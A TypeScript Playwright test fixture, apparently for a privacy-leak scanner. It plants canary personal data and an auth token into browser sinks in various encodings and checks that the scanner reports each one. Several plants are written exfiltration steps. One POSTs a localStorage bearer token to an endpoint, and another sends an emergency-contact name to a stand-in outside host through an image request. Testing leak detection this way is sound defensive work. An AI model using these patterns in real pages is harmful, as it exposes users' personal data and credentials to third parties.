import type { Page } from '@playwright/test';
import type { CanaryName, Person } from './canaries';
import type { Encoding } from './encodings';
import type { Hit } from './findings';
import type { Place } from './sinks';

/** A planted leak: its value, its channel, and its encoding. */
export interface Plant {
  readonly canary: CanaryName;
  readonly place: Place;
  readonly encoding: Encoding;
  readonly leak: (page: Page, person: Person) => Promise<unknown>;
}

const base64 = (text: string) => Buffer.from(text).toString('base64');
/** Returns an event as the endpoint expects it, with a given word as its action. */
const event = (word: string) => JSON.stringify({ context: {}, events: [{ action: word }] });
const hex = (text: string) => Buffer.from(text).toString('hex');

/** A leak for each of the sinks, in every encoding: the search must find all, or it proves nothing. */
export const plants: readonly Plant[] = [
  {
    canary: 'email',
    place: 'address',
    encoding: 'raw',
    leak: (page, { email }) =>
      page.evaluate((it) => history.replaceState(history.state, '', `?q=${it}`), email),
  },
  {
    canary: 'homePhone',
    place: 'referrer',
    encoding: 'raw',
    leak: (page, { homePhone }) =>
      page.evaluate(async (it) => {
        history.replaceState(history.state, '', `?q=${it}`);
        await fetch('/probe.js', { referrerPolicy: 'unsafe-url' });
      }, homePhone),
  },
  {
    canary: 'nik',
    place: 'localStorage',
    encoding: 'base64',
    leak: (page, { nik }) =>
      page.evaluate((it) => localStorage.setItem('seen', it), base64(`id:${nik}`)),
  },
  {
    canary: 'employer',
    place: 'sessionStorage',
    encoding: 'JSON',
    leak: (page, { employer }) =>
      page.evaluate((it) => {
        sessionStorage['draft'] = it;
      }, JSON.stringify({ employer })),
  },
  {
    canary: 'address',
    place: 'indexedDB',
    encoding: 'raw',
    leak: (page, { address }) =>
      page.evaluate(
        (it) =>
          new Promise((resolve) => {
            const opening = indexedDB.open('cache');
            opening.onupgradeneeded = () => opening.result.createObjectStore('pages');
            opening.onsuccess = () => {
              const change = opening.result.transaction('pages', 'readwrite');
              change.objectStore('pages').put({ it }, 1);
              change.oncomplete = resolve;
            };
          }),
        address,
      ),
  },
  {
    canary: 'income',
    place: 'cache',
    encoding: 'raw',
    leak: (page, { income }) =>
      page.evaluate(async (it) => {
        const cache = await caches.open('answers');
        await cache.put('/home', new Response(`{"income":${it}}`));
      }, income),
  },
  {
    canary: 'motherMaidenName',
    place: 'cookies',
    encoding: 'URL',
    leak: (page, { motherMaidenName }) =>
      page.evaluate((it) => {
        document.cookie = `m=${it}`;
      }, encodeURIComponent(motherMaidenName)),
  },
  {
    canary: 'ownMobile',
    place: 'console',
    encoding: 'hex',
    leak: (page, { ownMobile }) =>
      page.evaluate((it) => console.log('called', { it }), hex(`+62${ownMobile}`)),
  },
  {
    canary: 'motherMaidenName',
    place: 'tracking',
    encoding: 'raw',
    leak: (page, { motherMaidenName }) =>
      page.evaluate((it) => navigator.sendBeacon('/events', it), event(motherMaidenName)),
  },
  {
    canary: 'bearer',
    place: 'reports',
    encoding: 'raw',
    leak: (page) =>
      page.evaluate(async () => {
        const body = JSON.stringify({ token: localStorage.getItem('paylater.authToken') });
        await fetch('/reports/api/1/envelope/', { method: 'POST', body });
      }),
  },
  {
    canary: 'emergencyName',
    place: 'cspReports',
    encoding: 'URL',
    leak: (page, { emergencyName }) =>
      page.evaluate((it) => {
        const image = new Image();
        image.src = `https://pictures.elsewhere.example/?who=${it}`;
        return new Promise((resolve) => {
          image.onerror = resolve;
        });
      }, encodeURIComponent(emergencyName)),
  },
  {
    canary: 'name',
    place: 'postMessage',
    encoding: 'lower-case',
    leak: (page, { name }) =>
      page.evaluate((it) => window.postMessage({ user: { it } }, '*'), name.toLowerCase()),
  },
  {
    canary: 'dob',
    place: 'bridge',
    encoding: 'raw',
    leak: (page, { dob }) =>
      page.evaluate((it) => {
        Object.assign(window, { gojekBridge: { call: () => undefined } });
        const { gojekBridge } = window as unknown as {
          gojekBridge: { call: (name: string, params: string) => void };
        };
        gojekBridge.call('getUserDetails', JSON.stringify({ it }));
      }, dob),
  },
  {
    canary: 'emergencyPhone',
    place: 'otherRequests',
    encoding: 'ending',
    leak: (page, { emergencyPhone }) =>
      page.evaluate((it) => fetch(`/icon.svg?v=${it}`), emergencyPhone.slice(-6)),
  },
  {
    canary: 'address',
    place: 'otherRequests',
    encoding: 'double URL',
    leak: (page, { address }) =>
      page.evaluate(
        (it) => fetch(`/icon.svg?to=${it}`),
        encodeURIComponent(encodeURIComponent(address)),
      ),
  },
  {
    canary: 'employer',
    place: 'tracking',
    encoding: 'base64url',
    leak: (page, { employer }) =>
      page.evaluate(
        (it) => fetch('/events', { method: 'POST', body: it }),
        event(Buffer.from(`a${employer}`).toString('base64url')),
      ),
  },
  {
    canary: 'name',
    place: 'html',
    encoding: 'raw',
    leak: async (page, { name }) => {
      await page.route('**/planted', (route) =>
        route.fulfill({ contentType: 'text/html', body: `<p>${name}</p>` }),
      );
      await page.evaluate(async () => (await fetch('/planted')).text());
    },
  },
  {
    canary: 'figure',
    place: 'templates',
    encoding: 'raw',
    leak: (page) =>
      page.evaluate(() => {
        const amount = document.querySelector('main [data-amount]');
        const template = document.createElement('template');
        if (amount) template.content.append(amount.cloneNode(true));
        document.body.append(template);
      }),
  },
];

export const missedOf = (hits: readonly Hit[]): readonly string[] =>
  plants
    .filter(
      ({ canary, place, encoding }) =>
        !hits.some((it) => it.canary === canary && it.place === place && it.encoding === encoding),
    )
    .map(({ canary, place, encoding }) => `${canary} | ${place} | ${encoding}`);
